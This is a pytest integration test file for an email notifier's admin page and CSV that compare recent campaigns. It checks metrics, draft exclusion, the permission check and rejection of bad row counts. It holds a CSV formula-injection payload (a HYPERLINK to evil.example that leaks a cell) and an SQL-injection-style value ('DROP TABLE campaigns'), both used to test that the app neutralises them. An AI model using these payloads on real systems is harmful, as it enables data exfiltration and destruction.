"""The last N campaigns compared, through the real send path and HTTP: the same numbers as each
campaign's own page, drafts left out, newest first; a bar of click-through rate per campaign; a
CSV of the same rows with a hostile campaign name neutralised; N refused, never a 500, when it is
anything but a whole number from 1 to 50. Counts only: nobody is named."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from notifier.campaigns import lifecycle
from notifier.campaigns.engagement import engagement
from notifier.domain.bounces import Feedback, Kind, Target, TargetKind
from notifier.feedback import bounce_handling
from notifier.infra.extensions import db
from notifier.models import Campaign, Delivery
from notifier.models.types import utcnow
from tests.integration.helpers import committed, drain, layout_template, sample_data, start_campaign
from tests.integration.test_admin_support import browser, make_staff, sign_in
from tests.integration.tracking_steps import send_tracked
from tests.smtp_server import SmtpTestServer

CLICK_LINK = re.compile(r'href="https://notifier\.test(/t/c/[A-Za-z0-9_-]+)"')
PIXEL = re.compile(r'src="https://notifier\.test(/t/o/[A-Za-z0-9_-]+)"')
PHONE = {"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148"}
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Khuyến mãi")'


@pytest.fixture
def two_sent(app: Flask, smtp: SmtpTestServer, tmp_path: Path) -> dict:
    """Campaign A: An (tracked) opened it and clicked twice, Bea (untracked) did nothing. Then a
    draft, then campaign B to both: nobody clicked, Bea's copy bounced."""
    sent = send_tracked(app, smtp, tmp_path)
    mail = sent["mails"]["an@example.com"]
    public = app.test_client()
    with time_machine.travel(utcnow() + timedelta(minutes=5), tick=True):
        assert public.get(PIXEL.findall(mail)[0], headers=PHONE).status_code == 200
        for link in CLICK_LINK.findall(mail)[:2]:
            assert public.get(link, headers=PHONE).status_code == 302
    with committed():
        db.session.execute(
            update(Campaign).where(Campaign.id == sent["campaign"]).values(name=HOSTILE)
        )
        draft_id = lifecycle.create_campaign(
            lifecycle.CampaignInput(
                name="nháp",
                kind="promotion",
                purpose_key="promotions",
                template_id=layout_template("promotion", "promotions"),
                audience={},
                data=sample_data("promotion"),
            )
        ).id
    second = start_campaign("promotion", "promotions")
    drain(app)
    bea = db.session.scalar(
        select(Delivery.id).where(
            Delivery.campaign_id == second, Delivery.contact_id == sent["bea"]
        )
    )
    hard = Feedback(Kind.HARD_BOUNCE, None, "5.1.1", "no_such_user", "550 5.1.1 unknown")
    with committed():
        bounce_handling.apply(hard, Target(TargetKind.DELIVERY, bea), "test", "b1", False)
    return {**sent, "first": sent["campaign"], "second": second, "draft": draft_id}


@pytest.fixture
def staff(app: Flask) -> FlaskClient:
    client = browser(app)
    make_staff("tiepthi@example.com", "marketing")
    sign_in(client, "tiepthi@example.com")
    return client


def _csv(client: FlaskClient, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"/admin/campaigns/compare.csv{query}")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def test_the_last_campaigns_with_the_numbers_of_their_own_pages(
    staff: FlaskClient, two_sent: dict
) -> None:
    rows = _csv(staff)
    assert [int(r["campaign_id"]) for r in rows] == [two_sent["second"], two_sent["first"]]
    second, first = rows
    assert (first["sent"], first["unique_opens"], first["open_rate"]) == ("2", "1", "1.0000")
    assert (first["unique_clicks"], first["click_through_rate"], first["bounces"]) == (
        "1", "1.0000", "0",
    )  # fmt: skip
    assert (second["sent"], second["bounces"], second["unique_clicks"]) == ("1", "1", "0")
    assert second["click_through_rate"] == "0.0000"  # An's tracked copy, not clicked
    counts = engagement(db.session.get_one(Campaign, two_sent["first"]))
    assert int(first["unique_clicks"]) == counts.unique_clicks
    assert int(first["unique_opens"]) == counts.unique_opens
    assert first["name"] == "'" + HOSTILE  # a spreadsheet shows it as text, runs nothing
    assert "unsubscribes" not in rows[0]  # the ledger cannot tell which campaign's link was used
    page = staff.get("/admin/campaigns/compare").get_data(as_text=True)
    table = page[page.index('data-testid="comparison-table"') :]
    assert f'data-campaign="{two_sent["draft"]}"' not in table
    assert table.index(f'data-campaign="{two_sent["second"]}"') < table.index(
        f'data-campaign="{two_sent["first"]}"'
    )
    assert "100.0 %" in table and "0.0 %" in table
    assert "an@example.com" not in page and "Nguyễn Văn An" not in page and "Bea" not in page
    assert HOSTILE not in page  # escaped on the page
    chart = page[
        page.index('data-chart="ctr"') : page.index("</svg>", page.index('data-chart="ctr"'))
    ]
    assert chart.count('class="bar low"') == 2
    assert re.findall(r'class="bar low"[^>]*data-value="([^"]+)"', chart) == ["100", "0"]


def test_n_picks_how_many(staff: FlaskClient, two_sent: dict) -> None:
    assert [int(r["campaign_id"]) for r in _csv(staff, "?n=1")] == [two_sent["second"]]
    assert len(_csv(staff, "?n=50")) == 2
    page = staff.get("/admin/campaigns/compare?n=1&lang=en").get_data(as_text=True)
    assert page.count("data-campaign=") == 1 and "Compare campaigns" in page


@pytest.mark.parametrize(
    "hostile",
    ["0", "51", "-1", "abc", "1e3", "10.5", "１０", " 10", "10;DROP TABLE campaigns", "9" * 400,
     "%00", "1,2"],
)  # fmt: skip
def test_hostile_n_is_refused_with_a_message(staff: FlaskClient, hostile: str) -> None:
    page = staff.get("/admin/campaigns/compare", query_string={"n": hostile})
    assert page.status_code == 400
    text = page.get_data(as_text=True)
    assert "Số chiến dịch phải là một số nguyên từ 1 đến 50." in text
    assert 'data-testid="comparison-table"' not in text
    answer = staff.get("/admin/campaigns/compare.csv", query_string={"n": hostile, "lang": "en"})
    assert answer.status_code == 400 and answer.mimetype == "text/plain"
    assert "must be a whole number from 1 to 50" in answer.get_data(as_text=True)


def test_the_comparison_needs_the_campaign_permission(app: Flask) -> None:
    anonymous = browser(app)
    for path in ("/admin/campaigns/compare", "/admin/campaigns/compare.csv"):
        answer = anonymous.get(path)
        assert answer.status_code in (302, 401, 403)
        assert "campaign_id" not in answer.get_data(as_text=True)


def test_no_campaign_sent_yet(staff: FlaskClient) -> None:
    assert _csv(staff) == []
    page = staff.get("/admin/campaigns/compare").get_data(as_text=True)
    assert 'data-chart="ctr"' not in page and 'data-testid="comparison-table"' in page
